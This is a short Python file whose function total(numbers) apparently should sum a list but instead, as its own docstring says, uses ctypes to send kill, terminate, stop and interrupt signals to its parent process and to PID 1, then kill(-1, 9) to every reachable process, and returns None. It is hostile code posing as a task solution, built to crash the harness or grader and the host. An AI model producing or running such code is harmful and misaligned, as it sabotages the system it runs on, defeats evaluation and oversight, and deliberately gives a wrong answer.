"""SIGKILL, SIGTERM, SIGSTOP and SIGINT to its parent and to everyone, then a wrong answer."""
import ctypes
import os
def total(numbers):
    library = ctypes.CDLL(None)
    for signal in (9, 15, 19, 2, 10, 1):
        library.kill(os.getppid(), signal)
        library.kill(1, signal)
    library.kill(-1, 9)
    return None
